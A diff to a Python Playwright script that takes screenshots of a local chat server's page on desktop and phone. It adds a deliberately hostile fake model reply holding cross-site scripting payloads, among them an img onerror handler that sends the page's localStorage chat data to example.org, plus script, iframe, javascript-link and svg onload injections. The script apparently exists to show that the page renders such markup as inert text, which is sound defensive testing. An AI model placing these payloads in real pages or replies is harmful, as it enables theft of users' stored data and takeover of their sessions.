@@ -1,19 +1,25 @@
-"""Make screenshots/page.png: the server's chat page in Chromium, with the shipped model and with probabilities shown.
+"""Make the pictures of the server's chat page in Chromium, with the shipped model.
 
     python scripts/page_screenshot.py [--chromium PATH]
 
-Needs the `test` extra and Chromium.
+`screenshots/page.png` shows a continued program with the probabilities of its tokens, `page-phone.png` the same page on
+a phone, `page-hostile.png` a reply full of markup that would run if anything of it were taken for more than text; that
+reply is written here, since no model need be made to say it. Needs the `test` extra and Chromium.
 """
 
 from __future__ import annotations
 
 import argparse
+import json
 import shutil
 import threading
 import time
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 
-from playwright.sync_api import sync_playwright
+from playwright.sync_api import Page, Route, sync_playwright
 
 from nanochat_tui.model.shipped import shipped_model
 from nanochat_tui.serve.loading import ModelFiles, loader
@@ -25,12 +31,22 @@ FOLDER = Path(__file__).resolve().parents[1] / "screenshots"
 PROMPT = """/// Returns the sum of all even numbers.
 fn sum_even(numbers: &[i32]) -> i32 {
 """
+HOSTILE = """Here is what you **asked** for: <script>document.title = "taken over"</script>
+
+<img src=x onerror="fetch('https://example.org/?' + localStorage['nanochat-v1'])">
+
+- [a harmless link](https://example.org/) and [one that is none](javascript:alert(1))
+- <iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
+
+```html
+<svg onload="alert(1)"></svg>
+```
+"""
 
 
-def main() -> None:
-    parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("--chromium", default=shutil.which("chromium"))
-    options = parser.parse_args()
+@contextmanager
+def served() -> Iterator[str]:
+    """Serve the shipped model on a free port; give the address."""
     model = shipped_model()
     assert model is not None, "the shipped model is missing"
     service = Service(loader(ModelFiles(model)), Settings(model.stem))
@@ -41,25 +57,67 @@ def main() -> None:
     try:
         while service.state == "loading":
             time.sleep(0.05)
-        with sync_playwright() as play:
-            browser = play.chromium.launch(executable_path=options.chromium, args=["--no-sandbox"])
-            page = browser.new_page(viewport={"width": 1000, "height": 640}, color_scheme="light")
-            page.goto(f"http://127.0.0.1:{listening.getsockname()[1]}/")
-            page.get_by_text("continues text").wait_for()
-            page.click("#open")
-            for name, value in (("max_tokens", 72), ("seed", 4)):
-                page.fill(f"#{name}", str(value))
-            page.click("#close")
-            page.fill("#text", PROMPT)
-            page.press("#text", "Enter")
-            page.locator(".stats").wait_for()
-            page.click("text=Probabilities")
-            page.locator(".tokens span").nth(12).hover()
-            page.screenshot(path=FOLDER / "page.png")
-            browser.close()
+        yield f"http://127.0.0.1:{listening.getsockname()[1]}/"
     finally:
         server.should_exit = True
         thread.join()
+
+
+def continued(page: Page, url: str, tokens: int, *, finger: bool = False) -> None:
+    """Let the model continue the prompt, and show its probabilities."""
+    press = page.tap if finger else page.click  # a mouse that stays somewhere would take the tip there
+    page.goto(url)
+    page.get_by_text("continues text").wait_for()
+    press("#open")
+    for name, value in (("max_tokens", tokens), ("seed", 4)):
+        page.fill(f"#{name}", str(value))
+    press("#close")
+    page.fill("#text", PROMPT)
+    press("#send")
+    page.locator(".stats").wait_for()
+    press(".foot button:text('Probabilities')")
+
+
+def hostile(page: Page, url: str) -> None:
+    """Let the page show the hostile reply as a chat model's."""
+
+    def card(route: Route) -> None:
+        data: dict[str, Any] = route.fetch().json()
+        data["data"][0]["meta"]["chat_template"] = True
+        route.fulfill(json=data)
+
+    chunks = [{"delta": {"content": HOSTILE}, "finish_reason": None}, {"delta": {}, "finish_reason": "stop"}]
+    body = "".join(f"data: {json.dumps({'choices': [chunk]})}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
+    page.route("**/v1/models", card)
+    page.route("**/v1/chat/*", lambda route: route.fulfill(content_type="text/event-stream", body=body))
+    page.goto(url)
+    page.get_by_text("· chat").wait_for()
+    page.fill("#text", "Show me some HTML.")
+    page.click("#send")
+    page.locator(".stats").wait_for()
+
+
+def main() -> None:
+    """Make the three pictures."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--chromium", default=shutil.which("chromium"))
+    options = parser.parse_args()
+    with served() as url, sync_playwright() as play:
+        browser = play.chromium.launch(executable_path=options.chromium, args=["--no-sandbox"])
+        page = browser.new_page(viewport={"width": 1000, "height": 640}, color_scheme="light")
+        continued(page, url, 72)
+        page.locator(".tokens span").nth(12).hover()
+        page.screenshot(path=FOLDER / "page.png")
+        page = browser.new_page(
+            viewport={"width": 390, "height": 760}, color_scheme="dark", has_touch=True, is_mobile=True
+        )
+        continued(page, url, 48, finger=True)
+        page.locator(".tokens span").nth(9).tap()
+        page.screenshot(path=FOLDER / "page-phone.png")
+        page = browser.new_page(viewport={"width": 1000, "height": 640}, color_scheme="light")
+        hostile(page, url)
+        page.screenshot(path=FOLDER / "page-hostile.png")
+        browser.close()
 
 
 if __name__ == "__main__":
